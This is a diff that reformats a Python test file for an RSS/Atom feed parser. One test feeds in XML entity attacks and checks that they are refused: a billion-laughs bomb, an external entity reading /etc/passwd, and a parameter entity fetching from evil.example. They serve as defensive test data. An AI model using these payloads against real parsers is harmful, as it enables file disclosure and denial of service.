@@ -92,8 +92,10 @@ def test_rss_made_of_rdf_is_read(namespace):
 def test_atom_with_an_edit_an_author_and_an_answer():
     item = read(
         '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:thr="http://purl.org/syndication/thread/1.0" xml:lang="en">'
-        '<title>F</title><entry xml:base="https://blog.example/sub/"><id>tag:blog.example,2025:1</id><title type="html">A &lt;b&gt;b&lt;/b&gt;'
-        '</title><link rel="alternate" href="post-1"/><published>2025-01-01T10:00:00Z</published><updated>2025-01-02T10:00:00Z'
+        '<title>F</title><entry xml:base="https://blog.example/sub/"><id>tag:blog.example,2025:1</id>'
+        '<title type="html">A &lt;b&gt;b&lt;/b&gt;'
+        '</title><link rel="alternate" href="post-1"/><published>2025-01-01T10:00:00Z</published>'
+        "<updated>2025-01-02T10:00:00Z"
         "</updated><author><name>Eva</name><uri>https://eva.example</uri><email>Eva@example.com</email></author>"
         '<thr:in-reply-to ref="tag:blog.example,2025:0"/><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
         "<p>x</p><p>y</p></div></content></entry></feed>"
@@ -244,7 +246,8 @@ BOMB = "<!ENTITY a 'aaaaaaaaaa'>" + "".join(
 @pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "cp1252"])
 @pytest.mark.parametrize(
     "definition",
-    [BOMB, "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<!ENTITY % p SYSTEM 'http://evil.example/x'> %p;", "<!entity x 'y'>"],
+    [BOMB, "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<!ENTITY % p SYSTEM 'http://evil.example/x'> %p;",
+     "<!entity x 'y'>"],
     ids=["billion laughs", "file", "parameter", "lower case"],
 )  # fmt: skip
 def test_documents_that_define_entities_are_refused(definition, encoding):
